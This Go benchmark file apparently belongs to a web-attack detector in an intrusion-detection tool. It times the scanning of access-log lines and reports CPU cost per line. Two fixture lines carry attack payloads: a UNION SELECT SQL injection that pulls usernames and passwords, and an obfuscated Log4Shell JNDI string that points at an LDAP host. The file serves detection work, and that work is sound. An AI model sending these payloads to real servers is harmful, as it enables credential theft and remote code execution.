package webattack_test

import (
	"bufio"
	"bytes"
	"syscall"
	"testing"
	"time"

	"github.com/rampart-ids/rampart/internal/accesslog"
	"github.com/rampart-ids/rampart/internal/webattack"
	"github.com/rampart-ids/rampart/internal/webattack/corpus"
)

func newDetector(b *testing.B) *webattack.Detector {
	rules, err := webattack.BuiltinRules()
	if err != nil {
		b.Fatal(err)
	}
	rs, err := webattack.Compile(rules)
	if err != nil {
		b.Fatal(err)
	}
	return rs.NewDetector(accesslog.Auto)
}

// BenchmarkScan measures one line through parse, normalisation, prefilter,
// patterns and libinjection.
func BenchmarkScan(b *testing.B) {
	for _, bc := range []struct{ name, line string }{
		{"benign-page", `192.0.2.10 - - [03/Dec/2026:10:00:00 +0000] "GET /blog/2026/11/how-to-bake-sourdough-bread HTTP/1.1" 200 5120 "https://www.example.com/blog" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"`},
		{"benign-search", `192.0.2.10 - - [03/Dec/2026:10:00:00 +0000] "GET /search?q=don%27t+forget+the+charger+%26+the+%22blue%22+case&page=2 HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1"`},
		{"benign-utm", `192.0.2.10 - - [03/Dec/2026:10:00:00 +0000] "GET /products/organic-cotton-t-shirt?fbclid=IwAR2xYz0123456789abcdefABCDEF-_xyz&redirect=https%3A%2F%2Fwww.example.com%2Fcheckout%3Fstep%3D2%26coupon%3DWINTER%2BSALE&utm_campaign=winter_sale_2026&utm_medium=email&utm_source=newsletter HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"`},
		{"attack-sqli", `198.51.100.7 - - [03/Dec/2026:10:00:00 +0000] "GET /item?id=-1+UNION+ALL+SELECT+NULL,CONCAT(username,0x3a,password)+FROM+users-- HTTP/1.1" 200 5120 "-" "Mozilla/5.0"`},
		{"attack-log4shell", `198.51.100.7 - - [03/Dec/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 5120 "-" "${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}"`},
	} {
		b.Run(bc.name, func(b *testing.B) {
			d := newDetector(b)
			var res webattack.Result
			line := []byte(bc.line)
			d.Scan(line, &res)
			b.ReportAllocs()
			b.SetBytes(int64(len(line)))
			for b.Loop() {
				d.Scan(line, &res)
			}
		})
	}
}

// BenchmarkScanCorpus scans the generated log: 90 % benign, 10 % attacks.
func BenchmarkScanCorpus(b *testing.B) {
	var log bytes.Buffer
	if _, err := corpus.Generate(&log, corpus.Options{Seed: 3, BenignLines: 18000, AttackLines: 2000}); err != nil {
		b.Fatal(err)
	}
	var lines [][]byte
	sc := bufio.NewScanner(bytes.NewReader(log.Bytes()))
	for sc.Scan() {
		lines = append(lines, append([]byte(nil), sc.Bytes()...))
	}
	d := newDetector(b)
	var res webattack.Result
	b.ReportAllocs()
	b.SetBytes(int64(log.Len()) / int64(len(lines)))
	i := 0
	cpu0 := cpuTime()
	for b.Loop() {
		d.Scan(lines[i], &res)
		i++
		if i == len(lines) {
			i = 0
		}
	}
	cpu := cpuTime() - cpu0
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "lines/s")
	// On a shared machine the wall clock counts other processes' time
	// too; the process's CPU time (all threads, the GC's included) does not.
	b.ReportMetric(float64(cpu.Nanoseconds())/float64(b.N), "cpu-ns/line")
	b.ReportMetric(float64(b.N)/cpu.Seconds(), "lines/cpu-s")
}

// cpuTime is the process's user and system CPU time so far.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
